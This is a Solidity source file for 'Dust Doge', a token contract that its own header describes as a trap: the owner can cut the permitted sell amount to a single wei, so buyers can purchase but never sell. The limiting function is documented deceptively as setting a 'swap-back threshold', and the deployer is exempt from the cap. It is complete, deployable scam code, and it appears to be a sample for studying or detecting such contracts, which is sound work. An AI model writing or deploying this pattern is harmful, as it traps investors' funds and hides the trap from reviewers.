// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {RtERC20Lite, RtOwnable} from "./RtCommon.sol";

/// @title RtDustDoge
/// @notice A sell limit the owner can lower to a single wei: holders can buy
/// but can never sell more than dust.
contract RtDustDoge is RtERC20Lite, RtOwnable {
    address public immutable lpPair;
    uint256 public swapTokensAtAmount;
    mapping(address => bool) private _limitExempt;

    constructor(address router) RtERC20Lite("Dust Doge", "DDOGE", 18) {
        lpPair = _createPair(router);
        _limitExempt[msg.sender] = true;
        _mint(msg.sender, 10_000_000 ether);
        swapTokensAtAmount = totalSupply / 100;
    }

    /// @notice Sets the swap-back threshold.
    function setSwapTokensAtAmount(uint256 amount) external onlyOwner {
        swapTokensAtAmount = amount;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == lpPair && !_limitExempt[from]) {
            require(amount <= swapTokensAtAmount, "Sell amount exceeds limit");
        }
        super._transfer(from, to, amount);
    }
}
